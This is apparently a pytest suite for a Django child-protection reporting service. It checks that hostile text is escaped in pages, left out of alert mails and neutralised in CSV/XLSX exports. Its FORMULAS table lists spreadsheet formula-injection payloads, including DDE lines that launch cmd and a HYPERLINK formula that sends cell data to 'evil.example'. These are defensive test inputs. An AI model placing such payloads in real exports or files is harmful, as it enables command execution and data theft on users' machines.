"""Hostile text stored through the real services comes out inert: escaped in every page that shows
it, absent from alert mails (which carry no report text by design), and neutralised in every
export (no cell a spreadsheet would run as a formula, HTML only as text)."""

import csv
import io
import re
from datetime import date, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from openpyxl import load_workbook

from alerts import services as alert_services
from alerts.content import AlertContent
from alerts.models import Delivery, NotificationPreference
from cases.services import ChildInput, case_add_child, case_note_add
from core.emails import send_templated_email
from core.spreadsheets import FORMULA_STARTS, neutralise
from outreach.services import child_care_group_register, outreach_session_log
from reports.choices import Channel
from reports.services import report_message_add, report_submit
from tests.cases_data import new_report
from tests.conftest import login_as
from tests.hostile import HTML_PAYLOADS, SCRIPT
from tests.outreach_data import group_input, session_input
from tests.reporting import report_input, report_post_data
from triage.services import report_accept

pytestmark = pytest.mark.django_db

PAYLOAD_IDS = list(HTML_PAYLOADS)
# What a spreadsheet would run, one per character that starts a formula (OWASP's list).
FORMULAS = {
    "equals-dde": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
}


@pytest.fixture(autouse=True)
def _private_media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "private"


def submit_hostile(payload: str):
    """A report whose every free-text field holds the payload, and a message each way."""
    return report_submit(
        data=report_input(
            narrative=f"Anak dipukul setiap malam. {payload}",
            child_name=payload[:100],
            address_detail=payload,
            reporter_contact=payload[:100],
            contact_consent=True,
        ),
        channel=Channel.WEB,
        acting_user=None,
    )


def assert_inert(html: str, payload: str, *, shown: bool) -> None:
    """The markup that would run is not in the page; where the text is shown, it is escaped."""
    _, raw_markup = HTML_PAYLOADS_BY_TEXT[payload]
    assert raw_markup is None or raw_markup not in html
    if shown:
        assert escape(payload) in html


HTML_PAYLOADS_BY_TEXT = {text: (name, raw) for name, (text, raw) in HTML_PAYLOADS.items()}


def section(html: str, element_id: str) -> str:
    start = html.index(f'id="{element_id}"')
    return html[start : html.index("</section>", start)]


# --- pages ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", PAYLOAD_IDS)
def test_the_reporter_sees_messages_escaped_on_the_status_page(client, officer, name):
    payload, _ = HTML_PAYLOADS[name]
    submitted = submit_hostile(payload)
    report_message_add(report=submitted.report, body=f"Dari pelapor: {payload}", acting_user=None)
    report_message_add(report=submitted.report, body=f"Dari petugas: {payload}", acting_user=officer)

    html = client.post(reverse("reports:status"), {"receipt_code": submitted.receipt_code}).content.decode()

    assert_inert(html, payload, shown=True)
    assert html.count(escape(payload)) >= 2


@pytest.mark.parametrize("name", PAYLOAD_IDS)
def test_staff_see_every_field_of_a_report_escaped(client, supervisor, name):
    payload, _ = HTML_PAYLOADS[name]
    submitted = submit_hostile(payload)
    report_message_add(report=submitted.report, body=payload, acting_user=None)

    html = login_as(client, supervisor).get(reverse("triage:report", args=[submitted.report.uuid])).content.decode()

    assert_inert(html, payload, shown=True)
    # narrative, child's name, address, contact, the reporter's message
    assert html.count(escape(payload)) >= 5


@pytest.mark.parametrize("name", PAYLOAD_IDS)
def test_the_case_page_and_its_timeline_show_hostile_text_escaped(client, supervisor, officer, name):
    payload, _ = HTML_PAYLOADS[name]
    case = report_accept(report=submit_hostile(payload).report, acting_user=supervisor, officer=officer)
    case_add_child(case=case, data=ChildInput(name=f"Adik {payload}", guardian_contact=payload), acting_user=officer)
    case_note_add(case=case, body=f"Catatan: {payload}", acting_user=officer)

    html = login_as(client, supervisor).get(reverse("cases:detail", args=[case.uuid])).content.decode()

    assert_inert(html, payload, shown=True)
    assert escape(payload) not in section(html, "timeline")  # the timeline names codes, never free text


@pytest.mark.parametrize("name", PAYLOAD_IDS)
def test_outreach_pages_show_a_volunteers_text_escaped(client, volunteer, supervisor, rt, name):
    payload, _ = HTML_PAYLOADS[name]
    session = outreach_session_log(
        data=session_input(rt, facilitators=payload, materials=payload, notes=payload), acting_user=volunteer
    )
    child_care_group_register(data=group_input(rt, name=payload[:200]), acting_user=volunteer)

    volunteer_pages = [reverse("outreach:sessions"), reverse("outreach:groups"), reverse("outreach:home")]
    pages = [login_as(client, volunteer).get(url).content.decode() for url in volunteer_pages]
    detail = reverse("outreach:session_detail", args=[session.uuid])
    pages.append(login_as(client, supervisor).get(detail).content.decode())

    for html in pages:
        assert_inert(html, payload, shown=False)
    assert escape(payload) in pages[0] and escape(payload) in pages[1] and escape(payload) in pages[3]


@pytest.mark.parametrize("name", PAYLOAD_IDS)
def test_a_refused_value_echoed_in_an_error_message_is_escaped(client, volunteer, rt, name):
    payload, _ = HTML_PAYLOADS[name]

    public = client.post(reverse("reports:form"), report_post_data(kelurahan=payload, violence_types=[payload]))
    login_as(client, volunteer)
    session = client.post(reverse("outreach:session_create"), {"rt": payload, "topics": [payload]})

    for response in (public, session):
        assert response.status_code == 400
        assert_inert(response.content.decode(), payload, shown=False)


# --- mails -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", PAYLOAD_IDS)
def test_alert_mails_carry_no_report_text_at_all(officer, mailoutbox, name):
    payload, _ = HTML_PAYLOADS[name]
    officer.email = "petugas@example.org"
    officer.save()
    NotificationPreference.objects.create(user=officer, on_duty=True)
    report = submit_hostile(payload).report

    for delivery in Delivery.objects.filter(alert__report=report, channel="email"):
        alert_services.delivery_send(delivery_id=delivery.pk)

    [mail] = mailoutbox
    [(html, _)] = mail.alternatives
    for part in (mail.subject, mail.body, html):
        assert report.reference in part or part == html
        for text in (payload, escape(payload), "Anak dipukul"):
            assert text not in part


@pytest.mark.parametrize("name", PAYLOAD_IDS)
def test_the_mail_templates_escape_whatever_they_are_given_in_the_html_part(mailoutbox, name):
    payload, raw_markup = HTML_PAYLOADS[name]
    content = AlertContent(
        kind="new_report",
        level=1,
        title=payload,
        reference=payload,
        priority="biasa",
        priority_label=payload,
        area=payload,
        late_minutes=0,
        late_text="",
        link="/staf/laporan/",  # made by reverse(), never from input
    )

    send_templated_email(name="alert", to=["petugas@example.org"], context={"alert": content})

    [(html, _)] = mailoutbox[0].alternatives
    assert (raw_markup is None or raw_markup not in html) and escape(payload) in html


# --- exports ---------------------------------------------------------------------------------------


# Where a spreadsheet may cut a cell into several: list separators, tabs and line breaks.
PART_SEPARATORS = re.compile(r"[;,\t\r\n]")


@pytest.mark.parametrize("name", list(FORMULAS))
def test_the_neutraliser_disarms_every_formula_start(name):
    neutralised = neutralise(FORMULAS[name])

    assert neutralised.startswith("'")
    assert_no_cell_runs([[neutralised]])
    assert neutralise("Budi = Santoso") == "Budi = Santoso"
    assert neutralise("Budi; Sari, 6-12") == "Budi; Sari, 6-12"
    assert neutralise(7) == 7


@pytest.mark.parametrize("separator", ["; ", ", ", ";\t", "\t", "\n", "\r\n"])
def test_the_neutraliser_disarms_a_formula_inside_a_joined_list(separator):
    joined = separator.join(["Budi", FORMULAS["hyperlink"], FORMULAS["at"]])

    neutralised = neutralise(joined)

    assert neutralised == separator.join(["Budi", "'" + FORMULAS["hyperlink"], "'" + FORMULAS["at"]])
    assert_no_cell_runs([[neutralised]])


def csv_cells(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def xlsx_cells(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate  # never a formula cell
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def assert_no_cell_runs(rows) -> None:
    """No cell starts a formula, nor does any part of one that a spreadsheet may split off."""
    for row in rows:
        for value in row:
            if isinstance(value, str):
                assert not value.lstrip(" ").startswith(FORMULA_STARTS), value
                for part in PART_SEPARATORS.split(value)[1:]:
                    assert not part.lstrip(" ").startswith(("=", "+", "-", "@")), value


@pytest.fixture
def hostile_cases(supervisor, officer):
    """One case per formula, and one with HTML, with the text where a report and staff put it."""
    texts = [*FORMULAS.values(), SCRIPT]
    for text in texts:
        case = report_accept(report=submit_hostile(text).report, acting_user=supervisor, officer=officer)
        case_add_child(
            case=case,
            data=ChildInput(name=f"{text} kakak", birth_date=date(2015, 1, 2), guardian_contact=text),
            acting_user=officer,
        )
    return texts


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", ["cases", "simfoni"])
def test_exports_neutralise_formulas_and_keep_html_as_text(client, supervisor, hostile_cases, kind, file_format):
    query = {"kind": kind, "format": file_format, "include_identities": "on" if kind == "cases" else ""}
    response = login_as(client, supervisor).get(reverse("dashboard_export:download"), query)

    rows = csv_cells(response) if file_format == "csv" else xlsx_cells(response)

    assert len(rows) > len(hostile_cases)
    assert_no_cell_runs(rows)
    cells = [str(value) for row in rows for value in row if value is not None]
    if kind == "cases":
        # the children's names, as stored, behind an apostrophe; HTML as plain text (a cell is no page)
        assert any(cell.startswith("'" + FORMULAS["equals-dde"]) for cell in cells)
        assert any(cell.startswith(SCRIPT) for cell in cells)
    else:
        assert not any(SCRIPT in cell or "cmd|" in cell for cell in cells)  # SIMFONI holds codes only


def test_outreach_exports_neutralise_a_volunteers_formulas(client, volunteer, supervisor, rt):
    for number, text in enumerate([*FORMULAS.values(), SCRIPT]):
        outreach_session_log(
            data=session_input(rt, facilitators=text, materials=text, held_on=timezone.localdate() - timedelta(days=1)),
            acting_user=volunteer,
        )
        child_care_group_register(data=group_input(rt, name=f"{text} {number}"), acting_user=volunteer)
    login_as(client, supervisor)

    for url in (reverse("outreach_staff:export_sessions"), reverse("outreach_staff:export_groups")):
        rows = csv_cells(client.get(url))
        assert len(rows) == len(FORMULAS) + 2
        assert_no_cell_runs(rows)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_case_exports_disarm_a_formula_in_a_joined_list(client, supervisor, officer, file_format):
    case = report_accept(report=new_report(), acting_user=supervisor, officer=officer)
    for name in ("Budi", FORMULAS["hyperlink"]):
        case_add_child(case=case, data=ChildInput(name=name, birth_date=date(2015, 1, 2)), acting_user=officer)
    query = {"format": file_format, "include_identities": "on"}
    response = login_as(client, supervisor).get(reverse("dashboard_export:download"), query)

    rows = csv_cells(response) if file_format == "csv" else xlsx_cells(response)

    assert "Budi; '" + FORMULAS["hyperlink"] in rows[1]
    assert_no_cell_runs(rows)


def test_outreach_exports_disarm_a_formula_after_a_separator(client, volunteer, supervisor, rt):
    facilitators = f"Ibu Sari; {FORMULAS['hyperlink']}"
    outreach_session_log(data=session_input(rt, facilitators=facilitators), acting_user=volunteer)

    rows = csv_cells(login_as(client, supervisor).get(reverse("outreach_staff:export_sessions")))

    assert f"Ibu Sari; '{FORMULAS['hyperlink']}" in rows[1]
    assert_no_cell_runs(rows)
